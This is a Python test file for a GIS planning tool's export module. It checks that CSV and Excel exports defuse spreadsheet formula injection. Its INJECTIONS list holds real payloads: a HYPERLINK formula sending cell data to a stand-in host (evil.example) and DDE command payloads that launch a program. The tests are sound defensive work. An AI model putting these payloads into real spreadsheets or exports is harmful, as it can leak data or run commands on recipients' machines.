"""No live formula in any exported table: text starting with = + - @, a tab or CR is written as text."""

import csv

import openpyxl
import pandas as pd
import pytest

from gisplanner.export import tables
from gisplanner.io.spreadsheets import defuse, is_formula_like, safe_frame, text_cells, write_csv
from tests.export.plan_data import build_plan, items

INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
              "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_like_text_is_prefixed(text):
    assert is_formula_like(text) and defuse(text) == "'" + text


@pytest.mark.parametrize("value", ["宣西小区", "a=b", 3, -5.0, None, "1 + 1"])
def test_other_values_are_untouched(value):
    assert defuse(value) == value


def test_numbers_stay_numbers_and_text_is_defused():
    frame = pd.DataFrame({"name": ["=1+1", "宣西"], "n": [-3, 4], "s": pd.array(["@x", None], dtype="string")})
    out = safe_frame(frame)
    assert out["name"].tolist() == ["'=1+1", "宣西"] and out["n"].tolist() == [-3, 4]
    assert out["s"].iloc[0] == "'@x" and pd.isna(out["s"].iloc[1])


def test_csv_cells_read_back_as_text(tmp_path):
    path = write_csv(pd.DataFrame({"=name": INJECTIONS}), tmp_path / "t.csv")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["'=name"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in INJECTIONS]


def test_openpyxl_stores_no_formula(tmp_path):
    book = openpyxl.Workbook()
    book.active.append(INJECTIONS)
    text_cells(book).save(tmp_path / "t.xlsx")
    cells = list(openpyxl.load_workbook(tmp_path / "t.xlsx").active.iter_rows())[0]
    # XML stores a carriage return as a line feed; the text is otherwise what was written, typed as a string
    assert [c.value for c in cells] == [t.replace("\r", "\n") for t in INJECTIONS]
    assert {c.data_type for c in cells} == {"s"}


@pytest.fixture
def injected_tables():
    plan = build_plan()
    plan_tables = tables.plan_tables(plan, items())
    for frame in (plan_tables.items, plan_tables.gaps, plan_tables.checks):
        for column in frame.columns:
            if frame[column].dtype == object:
                frame[column] = [INJECTIONS[i % len(INJECTIONS)] for i in range(len(frame))]
    return plan_tables


def test_every_csv_of_the_plan_package_is_defused(injected_tables, tmp_path):
    for path in tables.write_csv(injected_tables, tmp_path).values():
        if path.suffix != ".csv":
            continue
        with open(path, encoding="utf-8-sig", newline="") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        assert not [c for c in cells if is_formula_like(c)], path.name


def test_the_plan_workbook_has_no_formula(injected_tables, tmp_path):
    path = tables.write_xlsx(injected_tables, tmp_path / "plan.xlsx", province="=省")
    book = openpyxl.load_workbook(path)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "=cmd|' /C calc'!A0" in {c.value for c in cells}  # kept as the text it is


def test_a_whole_export_of_injected_names_has_no_live_formula(cli, tmp_path):
    import pyogrio

    from tests.reliability.conftest import town_layers

    layers = town_layers()
    layers["communities"]["name"] = [INJECTIONS[i % len(INJECTIONS)] for i in range(len(layers["communities"]))]
    source = tmp_path / "town.gpkg"
    layers["facilities"] = layers["buildings"].head(1).assign(category="bank")[["category", "geometry"]]
    for role, frame in layers.items():
        pyogrio.write_dataframe(frame, source, layer=role)
    project = tmp_path / "P.gpkg"
    assert cli("import", source, "--project", project)[0] == 0
    assert cli("districts", project, "--out", tmp_path / "d.gpkg", "--min-population", "0")[0] == 0
    assert cli("lifecircle", project, "--out", tmp_path / "l.gpkg", "--levels", "5",
               "--types", "kindergarten")[0] == 0  # no kindergarten: every community is a gap, by name
    code, _, err = cli("export", project, "--out", tmp_path / "pkg", "--formats", "csv,xlsx")
    assert code == 0, err
    names = set()
    for path in (tmp_path / "pkg").rglob("*.csv"):
        with open(path, encoding="utf-8-sig", newline="") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        assert not [c for c in cells if is_formula_like(c)], path.name
        names |= {c for c in cells if c.startswith("'=")}
    for path in (tmp_path / "pkg").rglob("*.xlsx"):
        book = openpyxl.load_workbook(path)
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
        assert not [c.coordinate for c in cells if c.data_type == "f"], path.name
    assert names, "the injected names reach at least one table"
